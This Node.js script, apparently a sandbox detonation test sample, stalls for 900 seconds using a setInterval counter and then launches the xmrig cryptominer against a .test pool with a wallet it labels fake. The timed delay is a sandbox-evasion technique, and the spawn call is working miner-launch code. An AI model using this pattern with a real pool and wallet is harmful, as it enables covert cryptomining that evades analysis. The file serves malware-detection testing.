#!/usr/bin/node
// Waits 900 s as a setInterval(200 ms) counted to 4,500 and then cleared, then spawns the miner
// stand-in (detonate hold-out test sample; harmless, fake wallet, .test pool).
"use strict";
const { spawn } = require("child_process");

const ROUNDS = 4500;
const POOL = "stratum+tcp://pool.loop.test:3333";
const WALLET =
  "4gFQq7j6mGoN4BVFcUaKyRnGd8WaNeP4akE6cZXCGD8DVQPRvaf8Wmhx7NUY2zNq4ft41UhEt2JMeDANLfk6c6mjf7Z9sS8";

console.log(`waiting 900 s in ${ROUNDS} setInterval(200) ticks`);
const started = Date.now();
let ticks = 0;
const timer = setInterval(() => {
  if (++ticks < ROUNDS) return;
  clearInterval(timer);
  console.log(`waited ${((Date.now() - started) / 1000).toFixed(1)} s; starting the miner`);
  spawn("/usr/local/bin/xmrig", ["-o", POOL, "-u", WALLET, "--shares", "1"], {
    stdio: "inherit",
  }).on("exit", (code) => process.exit(code ?? 1));
}, 200);
